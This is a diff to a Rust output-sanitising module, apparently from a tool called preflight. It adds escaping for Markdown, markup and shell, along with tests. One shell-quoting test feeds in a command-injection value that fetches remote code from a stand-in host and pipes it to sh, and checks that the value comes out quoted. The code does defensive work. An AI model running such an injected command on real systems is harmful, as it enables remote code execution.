@@ -1,7 +1,11 @@
-//! Text from outside made safe to show: credentials cut out of what the user typed, the
-//! credentials we sent cut out of what a peer says back, and control characters escaped so
-//! that no certificate, status line or value can move the cursor, clear the screen or forge
-//! a line of the report.
+//! Text from outside made safe to show, one function per kind of output: credentials cut out
+//! of what the user typed and of what a peer says back; then, for a terminal, control
+//! characters escaped (no certificate, status line or value can move the cursor, clear the
+//! screen or forge a line); for Markdown, HTML and Markdown's own syntax escaped (a job summary
+//! renders no tag, link or image from a peer); for XML and HTML, markup escaped; for a shell,
+//! one quoted word. Prometheus label values are escaped by prometheus-client's encoder.
+//! Every renderer takes outside text through these, including what `merge` reads back from
+//! reports a user may not have written.
 
 use std::borrow::Cow;
 
@@ -77,6 +81,80 @@ fn needs_escape(c: char) -> bool {
     c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
 }
 
+/// `text` for running Markdown (a table cell, a list item, a quote): on one line, control
+/// characters escaped as on a terminal, `<`, `>` and `&` written as entities (so GitHub and
+/// GitLab render no tag), and the punctuation that makes links, images, emphasis, code and
+/// table cells backslash-escaped, as are the `://`, `www.` and `@` that GFM's autolinks start
+/// from. What a renderer shows is the text as it came.
+pub fn markdown(text: &str) -> String {
+    let folded = text.replace(['\n', '\r'], " ");
+    let text = terminal(&folded);
+    let mut out = String::with_capacity(text.len() + 8);
+    let mut chars = text.chars().peekable();
+    let mut previous: [char; 3] = [' '; 3];
+    while let Some(c) = chars.next() {
+        match c {
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '&' => out.push_str("&amp;"),
+            '\\' | '`' | '*' | '_' | '[' | ']' | '(' | ')' | '|' | '!' | '~' | '@' | '#' => {
+                out.push('\\');
+                out.push(c);
+            }
+            ':' if chars.peek() == Some(&'/') => out.push_str("\\:"),
+            '.' if previous.iter().collect::<String>().eq_ignore_ascii_case("www") => {
+                out.push_str("\\.")
+            }
+            c => out.push(c),
+        }
+        previous = [previous[1], previous[2], c];
+    }
+    out
+}
+
+/// `text` for the inside of a Markdown code span in a table cell: a backquote (which would end
+/// the span) shown as `'`, a pipe escaped (GFM splits cells before it reads spans), control
+/// characters escaped, on one line. Inside a span nothing else is markup.
+pub fn markdown_code(text: &str) -> String {
+    terminal(&text.replace(['\n', '\r'], " "))
+        .replace('`', "'")
+        .replace('|', "\\|")
+}
+
+/// `text` for an XML or HTML element or attribute (JUnit, the status page, the merged page):
+/// markup escaped, characters XML 1.0 forbids dropped.
+pub fn markup(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '"' => out.push_str("&quot;"),
+            '\'' => out.push_str("&apos;"),
+            '\n' => out.push_str("&#10;"),
+            '\t' | '\r' => out.push(' '),
+            c if (c as u32) < 0x20 || c == '\u{FFFE}' || c == '\u{FFFF}' => {}
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// `text` as one word for a POSIX shell: as it is when it holds only characters no shell
+/// treats specially, else in single quotes (a quote inside written `'\''`). Used for the
+/// parts of a suggested command that are not preflight's own words.
+pub fn shell(text: &str) -> Cow<'_, str> {
+    let plain = !text.is_empty()
+        && text
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '/' | ':' | ',' | '+' | '=' | '@' | '%'));
+    match plain {
+        true => Cow::Borrowed(text),
+        false => Cow::Owned(format!("'{}'", text.replace('\'', "'\\''"))),
+    }
+}
+
 /// `text` with every one of `secrets` replaced by `***`: for what a peer sends back, which may
 /// quote the credentials it was given.
 pub fn scrub(text: &str, secrets: &[String]) -> String {
@@ -130,6 +208,24 @@ mod tests {
             terminal("a\x1b]0;title\x07b\r\n[ ok ]\u{9b}\u{202e}"),
             "a\\x1b]0;title\\x07b\\r\\n[ ok ]\\x9b\\u{202e}"
         );
+    }
+
+    #[test]
+    fn markdown_shows_tags_links_and_autolinks_as_text() {
+        assert_eq!(
+            markdown("O=<a href=x>Fix</a> & [t](http://e) www.e.example a@b |\x1b"),
+            "O=&lt;a href=x&gt;Fix&lt;/a&gt; &amp; \\[t\\]\\(http\\://e\\) www\\.e.example a\\@b \\|\\\\x1b"
+        );
+        assert_eq!(markdown_code("a`b|c\nd"), "a'b\\|c d");
+    }
+
+    #[test]
+    fn shell_words_are_quoted_unless_plain() {
+        assert_eq!(shell("cp.example:443"), "cp.example:443");
+        assert_eq!(shell("/etc/kong/kong.conf"), "/etc/kong/kong.conf");
+        assert_eq!(shell("$(curl evil|sh)"), "'$(curl evil|sh)'");
+        assert_eq!(shell("it's"), "'it'\\''s'");
+        assert_eq!(shell(""), "''");
     }
 
     #[test]
